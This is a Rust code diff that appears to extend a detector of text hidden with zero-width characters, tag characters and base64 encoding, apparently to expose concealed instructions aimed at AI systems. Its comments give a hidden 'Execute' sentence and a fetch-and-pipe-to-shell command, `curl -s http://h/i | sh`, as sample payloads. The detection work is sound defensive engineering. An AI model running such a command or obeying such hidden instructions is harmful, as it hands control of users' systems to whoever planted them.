@@ -98,7 +98,36 @@ pub fn without_splitters(text: &str) -> Option<String> {
             prev_letter = c.is_alphanumeric();
         }
     }
-    (removed > 0 && inside).then(|| text.chars().filter(|&c| !is_splitter(c)).collect())
+    (removed > 0 && inside).then(|| join_without_splitters(text))
+}
+
+/// The text without splitters. A splitter between the end of one sentence and the capital that
+/// opens the next (`…document\u{200c}Execute …`) hid a sentence boundary, not split a word:
+/// it becomes a line break, so that the hidden sentence is read as one.
+fn join_without_splitters(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    let mut prev: Option<char> = None;
+    let mut pending = false;
+    for c in text.chars() {
+        if is_splitter(c) {
+            pending = true;
+            continue;
+        }
+        if pending {
+            let seam = prev.is_some_and(|p| {
+                p.is_lowercase() || p.is_ascii_digit() || matches!(p, '.' | '!' | '?' | ':' | ';')
+            }) && c.is_uppercase();
+            if seam {
+                out.push('\n');
+            }
+            pending = false;
+        }
+        if !is_tag(c) {
+            prev = Some(c);
+        }
+        out.push(c);
+    }
+    out
 }
 
 fn is_tag(c: char) -> bool {
@@ -118,7 +147,7 @@ pub fn tag_text(text: &str) -> Option<String> {
 }
 
 /// Bytes that read as text: printable ASCII or UTF-8, with some spaces (instructions are
-/// sentences; random binary or an identifier is not).
+/// sentences, commands have arguments; random binary or an identifier is neither).
 fn as_prose(bytes: Vec<u8>) -> Option<String> {
     let s = String::from_utf8(bytes).ok()?;
     let n = s.chars().count();
@@ -128,7 +157,14 @@ fn as_prose(bytes: Vec<u8>) -> Option<String> {
         .count();
     let spaces = s.chars().filter(|c| *c == ' ').count();
     let letters = s.chars().filter(|c| c.is_alphabetic()).count();
-    (n >= 8 && printable * 100 >= n * 95 && spaces >= 2 && letters * 2 >= n).then_some(s)
+    let prose = spaces >= 2 && letters * 2 >= n;
+    // A command line is text too, denser in punctuation than prose (`curl -s http://h/i | sh`):
+    // a payload that is code must be read as well as one that is an instruction.
+    let code = spaces >= 1
+        && letters * 3 >= n
+        && s.chars()
+            .any(|c| matches!(c, '|' | ';' | '(' | '$' | '`' | '>'));
+    (n >= 8 && printable * 100 >= n * 95 && (prose || code)).then_some(s)
 }
 
 fn b64_value(c: u8) -> Option<u32> {
